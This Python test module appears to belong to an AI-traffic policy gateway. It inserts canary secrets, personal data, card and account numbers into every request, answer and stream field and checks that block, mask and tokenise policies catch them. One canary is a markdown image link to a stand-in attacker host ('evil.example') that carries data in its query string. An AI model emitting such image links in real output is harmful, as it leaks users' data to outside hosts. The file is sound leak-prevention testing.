"""The bypass matrix: route x field x stream x detector x action, generated. A canary stands in every place where text can stand,
one place at a time; each cell shows that the action was carried out there.

``MAGISTRATE_REGENERATE=1`` writes ``docs/bypass-matrix.md`` anew; otherwise the page must equal what is generated.
"""

import copy
import os
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from magistrate.classify.sinks import SHOWN
from magistrate.exchange.content import Part
from magistrate.exchange.errors import MalformedAnswer
from magistrate.policy.bundle import Bundle
from magistrate.wire.dialects import DIALECTS
from magistrate.wire.routes import ROUTES, match
from tests.lines.world import Script, Upstream, World, policies

from .examples import ANSWERS, PNG, REQUESTS, STREAMS, spell_stream

ROOT = Path(__file__).parents[2]
PAGE = ROOT / "docs" / "bypass-matrix.md"

CANARIES = {
    "secret": ("secret", "AKIAQ3XK7LMN2PWZ5RTV"),
    "e-mail": ("pii", "ada.lovelace@analytical.org"),
    "card": ("pci", "4111 1111 1111 1111"),
    "account": ("fin", "DE89 3704 0044 0532 0130 00"),
    "image": ("sink", "![x](https://evil.example/p?d=1)"),
}
"""Detector to label family and canary."""

PROTECTED = {"image": "evil.example"}
"""What must not get through, where it is not the whole canary."""

ACTIONS = {
    "block": 'forbid (principal, {scope}, resource) when {{ context.labels.contains("{family}") }};',
    "mask": '@obligation("redact") @labels("{family}") permit (principal, {scope}, resource);',
    "pseudonym": '@obligation("tokenise") @labels("{family}") permit (principal, {scope}, resource);',
    "format-preserving": '@obligation("tokenise") @method("format-preserving") @labels("{family}") permit (principal, {scope}, resource);',
    "reversible": '@obligation("tokenise") @method("reversible") @labels("{family}") permit (principal, {scope}, resource);',
}
CALL = [(d, a) for d in ("secret", "e-mail", "card", "account") for a in ACTIONS]
ANSWER = [
    *(
        (d, a)
        for d in ("secret", "e-mail", "card", "account")
        for a in ("block", "mask", "pseudonym", "format-preserving")
    ),
    ("image", "block"),
    ("image", "mask"),
]


def enforcing(detector: str, action: str, way: str) -> Bundle:
    """The policies that carry out ``action`` on what ``detector`` finds, one way, and allow all else."""
    scope = f'action == Magistrate::Action::"{way}"'
    rule = ACTIONS[action].format(family=CANARIES[detector][0], scope=scope)
    return policies(f'@id("all") permit (principal, action, resource);\n@id("it") {rule}')


CALL_BUNDLES = {(d, a): enforcing(d, a, "call") for d, a in CALL}
ANSWER_BUNDLES = {(d, a): enforcing(d, a, "answer") for d, a in ANSWER}

Place = tuple[str | int, ...]


def places(value: Any, path: Place = ()) -> Iterator[tuple[Place, str]]:
    """Every string, every key of a free object, and every string inside a JSON string, with what kind of place it is."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from places(item, (*path, key))
        yield (*path, "~new key~"), "key"
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from places(item, (*path, index))
    elif isinstance(value, str):
        if PNG in value:
            return  # opaque bytes: policy is told that they were not read; no detector claims to
        if value.startswith("{"):
            for inner, kind in places(msgspec.json.decode(value)):
                yield (*path, "~json~", *inner), kind
        else:
            yield path, "text"


def put(tree: Any, path: Place, canary: str) -> Any:
    """A copy of ``tree`` with ``canary`` appended at ``path``, inside JSON strings where the path says so."""
    if "~json~" in path:
        at = path.index("~json~")
        inner = put(msgspec.json.decode(get(tree, path[:at])), path[at + 1 :], canary)
        return assign(tree, path[:at], msgspec.json.encode(inner).decode())
    if path[-1] == "~new key~":
        return assign(tree, (*path[:-1], canary), 1)
    return assign(tree, path, f"{get(tree, path)} {canary} ")


def get(tree: Any, path: Place) -> Any:
    for step in path:
        tree = tree[step]
    return tree


def assign(tree: Any, path: Place, value: Any) -> Any:
    tree = copy.deepcopy(tree)
    parent = get(tree, path[:-1])
    parent[path[-1]] = value
    return tree


def named(path: Place) -> str:
    return ".".join("[]" if isinstance(step, int) else step for step in path)


def shown(parts: Iterable[Part], canary: str) -> bool:
    """Whether the canary stands where a client shows text, so that a link in it is one."""
    return any(canary in part.text and part.kind in SHOWN for part in parts)


def request_places(row: str, detector: str) -> list[Place]:
    return [place for place, _ in places(REQUESTS[row][1])]


def answer_places(row: str, detector: str) -> list[Place]:
    found = [place for place, _ in places(ANSWERS[row])]
    if detector != "image":
        return found
    canary = CANARIES[detector][1]
    return [place for place in found if shown_in_whole(row, place, canary)]


def shown_in_whole(row: str, place: Place, canary: str) -> bool:
    try:
        answer = DIALECTS[row].read_answer(msgspec.json.encode(put(ANSWERS[row], place, canary)))
    except MalformedAnswer:
        return False  # one of the dialect's own words, which nobody shows
    return shown(answer.parts, canary)


def stream_places(row: str, detector: str) -> list[tuple[int, Place]]:
    found = [(n, place) for n, (_, data) in enumerate(STREAMS[row]) for place, _ in places(data)]
    return found if detector != "image" else [at for at in found if shown_in_stream(row, *at)]


def shown_in_stream(row: str, number: int, place: Place) -> bool:
    canary = CANARIES["image"][1]
    reader = DIALECTS[row.removesuffix(" stream")].open_stream()
    raw = b"".join(spell_stream(row, changed(row, number, place, canary)))
    try:
        events = [*reader.feed(raw), *reader.finish()]
    except MalformedAnswer:
        return False
    return any(
        shown(event.parts, canary) or any(canary in d.text and d.kind in SHOWN for d in event.deltas)
        for event in events
    )


def changed(row: str, number: int, place: Place, canary: str) -> list[tuple[str, dict[str, Any]]]:
    events = copy.deepcopy(STREAMS[row])
    name, data = events[number]
    events[number] = (name, put(data, place, canary))
    return events


def protected(detector: str) -> str:
    return PROTECTED.get(detector, CANARIES[detector][1])


def test_every_route_that_takes_a_body_has_a_row() -> None:
    """A route that is added without a row fails here."""
    covered = {match("POST", path)[0].path for path, _ in REQUESTS.values()}  # type: ignore[index]
    assert covered == {route.path for route in ROUTES if route.method == "POST"}


@pytest.mark.requirement("P9", "P3")
@pytest.mark.parametrize("row", REQUESTS)
@pytest.mark.parametrize(("detector", "action"), CALL)
async def test_nothing_protected_reaches_an_endpoint(row: str, detector: str, action: str) -> None:
    """Blocked: nothing is sent. Rewritten: what is sent does not hold it. In no field: it went through."""
    path, body = REQUESTS[row]
    canary = CANARIES[detector][1]
    through: list[str] = []
    for place in request_places(row, detector):
        upstream = Upstream(sim=[Script(status=418, body=b"{}")])
        world = World(upstream, bundle=CALL_BUNDLES[detector, action])
        reply = await world.ask(path, put(body, place, canary))
        sent = b"".join(request.body for _, request in upstream.calls)
        if canary.encode() in sent or (
            action == "block" and (upstream.calls or reply.status not in {400, 403, 404})
        ):
            through.append(named(place))
        assert world.evidence.phases == ["intent", "outcome"], named(place)
    assert through == []


@pytest.mark.requirement("P9", "P3", "G7")
@pytest.mark.parametrize("row", ANSWERS)
@pytest.mark.parametrize(("detector", "action"), ANSWER)
async def test_nothing_protected_comes_back_in_a_whole_answer(row: str, detector: str, action: str) -> None:
    """Withheld or rewritten, in every field of an answer."""
    path, body = REQUESTS[row]
    through: list[str] = []
    for place in answer_places(row, detector):
        answer = msgspec.json.encode(put(ANSWERS[row], place, CANARIES[detector][1]))
        world = World(Upstream(sim=[Script(body=answer)]), bundle=ANSWER_BUNDLES[detector, action])
        reply = await world.ask(path, body)
        if protected(detector) in reply.body.decode() + str(reply.headers):
            through.append(named(place))
        assert world.evidence.phases == ["intent", "outcome"], named(place)
    assert through == []


@pytest.mark.requirement("P9", "P6", "G7")
@pytest.mark.parametrize("row", STREAMS)
@pytest.mark.parametrize(("detector", "action"), ANSWER)
async def test_nothing_protected_comes_back_in_a_stream(row: str, detector: str, action: str) -> None:
    """Withheld or rewritten, in every field of every event."""
    path, body = REQUESTS[row]
    through: list[str] = []
    for number, place in stream_places(row, detector):
        events = changed(row, number, place, CANARIES[detector][1])
        script = Script(chunks=spell_stream(row, events))
        world = World(Upstream(sim=[script]), bundle=ANSWER_BUNDLES[detector, action])
        reply = await world.ask(path, body)
        if protected(detector) in reply.body.decode() or not reply.ended:
            through.append(f"{number}.{named(place)}")
        assert world.evidence.phases == ["intent", "outcome"], named(place)
    assert through == []


def page() -> str:
    """The published matrix: one row a route and detector, one column an action, the number of places in each cell."""
    lines = [
        "# The bypass matrix",
        "",
        "Generated by `tests/bypass`, which puts a canary into every place where text can stand, one at a time, for every detector",
        "and every action, and asserts that the action was carried out there. A number is how many places were tried; all of",
        "them held, or the build fails. A dash: the action has no meaning there.",
        "",
        "Opaque bytes (images, files in base64) are not read by any detector: policy is told so (`context.opaque`). An *image* is",
        "the target of one in an answer, looked for where a client shows text. Cuts within a value are `tests/properties`' matter.",
        "",
    ]
    for title, rows, cells, tried in (
        ("Requests", REQUESTS, CALL, request_places),
        ("Whole answers", ANSWERS, ANSWER, answer_places),
        ("Streams", STREAMS, ANSWER, stream_places),
    ):
        actions = list(dict.fromkeys(action for _, action in cells))
        lines += [
            f"## {title}",
            "",
            f"| route | detector | {' | '.join(actions)} |",
            "|---" * (len(actions) + 2) + "|",
        ]
        for row in rows:
            for detector in dict.fromkeys(detector for detector, _ in cells):
                count = len(tried(row, detector))  # type: ignore[operator]
                told = [str(count) if (detector, action) in cells else "-" for action in actions]
                lines.append(f"| {row} | {detector} | {' | '.join(told)} |")
        lines += ["", "<details><summary>places</summary>", ""]
        for row in rows:
            found = tried(row, "card")  # type: ignore[operator]
            names = dict.fromkeys(named(at[1] if title == "Streams" else at) for at in found)
            lines += [f"**{row}**: " + ", ".join(f"`{name}`" for name in names), ""]
        lines += ["</details>", ""]
    return "\n".join(lines)


def test_the_published_matrix_is_the_generated_one() -> None:
    """Documents about guarantees are generated, so that they cannot drift."""
    if os.environ.get("MAGISTRATE_REGENERATE"):
        PAGE.write_text(page())
    assert PAGE.read_text() == page()
